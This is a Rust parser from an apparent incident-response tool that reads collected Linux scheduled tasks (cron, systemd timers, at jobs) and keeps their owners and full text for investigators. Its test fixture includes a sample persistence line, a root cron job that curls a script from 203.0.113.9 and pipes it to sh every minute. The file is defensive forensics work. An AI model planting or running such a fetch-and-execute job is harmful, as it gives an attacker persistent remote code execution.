//! `Linux.Persistence.ScheduledTasks`: what runs at its time (ATT&CK T1053.002, T1053.003, T1053.006), with the whole text of
//! each job: autostart tells the command, and not what stands around it.

use std::io::{self, BufRead};

use investigation::evidence::{ArtifactStatus, ScheduledTask};
use investigation::order::Limits;

use super::super::Parsed;
use super::super::facts::Facts;
use super::super::record::{Records, text};
use super::super::tally::Tally;
use super::{NAME_CAP, PATH_CAP, Rows, cut, note_whole, owner, seconds};

/// Longest value: the script cuts files at 64 KiB.
const VALUE_CAP: usize = 64 << 10;
/// Bytes of all texts together that are kept.
const TEXTS: usize = 64 << 20;

/// What is run on the endpoint.
pub(crate) fn script() -> &'static str {
    super::script_of::scheduled_tasks()
}

/// Reads the script's output.
pub(crate) fn parse(input: &mut dyn BufRead, facts: &Facts, limits: &Limits) -> io::Result<(Parsed, Tally)> {
    let mut tally = Tally::default();
    let mut rows = Rows::new(limits);
    let Some(mut records) = Records::open(input, VALUE_CAP)? else {
        tally.failed("the endpoint ran no script");
        return Ok((Parsed::ScheduledTasks(Vec::new()), tally));
    };
    let mut task: Option<ScheduledTask> = None;
    let (mut size, mut kept) = (None, 0);
    while let Some(record) = records.next()? {
        match record.key {
            b"entry" => {
                if let Some(task) = task.take() {
                    rows.push(task, &mut tally);
                }
                size = None;
                let mechanism = cut(text(record.value), NAME_CAP);
                task = Some(ScheduledTask { mechanism, ..ScheduledTask::default() });
            }
            b"path" => {
                if let Some(task) = &mut task {
                    task.path = cut(text(record.value), PATH_CAP);
                }
            }
            b"stat" => {
                let stat = text(record.value);
                let mut fields = stat.split_ascii_whitespace();
                if let (Some(task), Some(uid), Some(bytes), Some(at)) =
                    (&mut task, fields.next(), fields.next(), fields.next())
                {
                    task.owner = owner(facts, uid);
                    task.modified_at = seconds(at);
                    size = bytes.parse::<u64>().ok();
                }
            }
            b"content" => {
                if let Some(task) = &mut task {
                    task.cut = record.cut || size.is_some_and(|size| size > VALUE_CAP as u64);
                    if kept + record.value.len() > TEXTS {
                        let what = "jobs have no text: all of them together are longer than 64 MiB";
                        tally.count(ArtifactStatus::Truncated, what);
                    } else {
                        kept += record.value.len();
                        task.content = Some(text(record.value));
                    }
                    if task.cut {
                        tally.count(ArtifactStatus::Truncated, "jobs are longer than 64 KiB and were cut");
                    }
                }
            }
            b"unreadable" => tally.count(ArtifactStatus::Partial, "jobs are closed to this account"),
            b"closed" => {
                let what = "folders with jobs, or home folders, are closed to this account";
                tally.count(ArtifactStatus::Partial, what);
            }
            _ => {}
        }
    }
    if let Some(task) = task {
        rows.push(task, &mut tally);
    }
    note_whole(&records, &mut tally);
    Ok((Parsed::ScheduledTasks(rows.rows), tally))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::super::testing::{keeps_to_its_word, read, read_bare, run};
    use super::*;

    const BODY: &[u8] = b"entry\0cron\0path\0/etc/cron.d/x\0stat\x000 52 1764000000\n\0content\0# hidden\n* * * * * root curl http://203.0.113.9/x | sh\n\0\
        entry\0systemd_timer\0path\0/home/alice/.config/systemd/user/a.timer\0stat\x001000 9 1764000001\0content\0[Timer]\n\0\
        entry\0at\0path\0/var/spool/cron/atjobs/a1\0stat\x001000 9 x\0unreadable\x001\0closed\0/var/spool/cron/crontabs\0";

    #[test]
    fn jobs_come_with_their_whole_text_and_their_owner() {
        let (parsed, status, reasons) = read(parse, BODY, &Limits::default());
        let Parsed::ScheduledTasks(rows) = parsed else { panic!("tasks") };
        assert_eq!((rows.len(), status, reasons.len()), (3, ArtifactStatus::Partial, 2), "{reasons:?}");
        assert!(rows[0].content.as_ref().unwrap().contains("# hidden"), "{rows:?}");
        assert_eq!((rows[0].owner.as_deref(), rows[1].owner.as_deref()), (Some("root"), Some("alice")));
        assert_eq!((rows[2].modified_at, rows[2].content.as_deref()), (None, None));
        let (parsed, status, _) = read(parse, BODY, &Limits { rows: 1, ..Limits::default() });
        assert_eq!((parsed.items(), status), (1, ArtifactStatus::Truncated));
    }

    #[test]
    fn a_text_that_is_cut_says_so() {
        let long = b"entry\0cron\0path\0/etc/crontab\0stat\x000 65537 1\0content\0x\0";
        let (parsed, status, _) = read(parse, long, &Limits::default());
        let Parsed::ScheduledTasks(rows) = parsed else { panic!("tasks") };
        assert!(rows[0].cut && status == ArtifactStatus::Truncated);
    }

    #[test]
    fn this_machine_answers() {
        let (parsed, status, reasons) = read_bare(parse, &run(script()), &Limits::default());
        assert!(matches!(status, ArtifactStatus::Ok | ArtifactStatus::Partial), "{reasons:?}");
        let Parsed::ScheduledTasks(rows) = parsed else { panic!("tasks") };
        assert!(rows.iter().all(|row| row.path.starts_with('/') && row.modified_at.is_some()), "{rows:?}");
    }

    proptest! {
        #[test]
        fn any_answer_is_read(bytes: Vec<u8>, stat in "[ -~]{0,40}") {
            keeps_to_its_word(parse, &bytes);
            keeps_to_its_word(parse, format!("entry\0cron\0stat\0{stat}\0content\0{stat}\0").as_bytes());
        }
    }
}
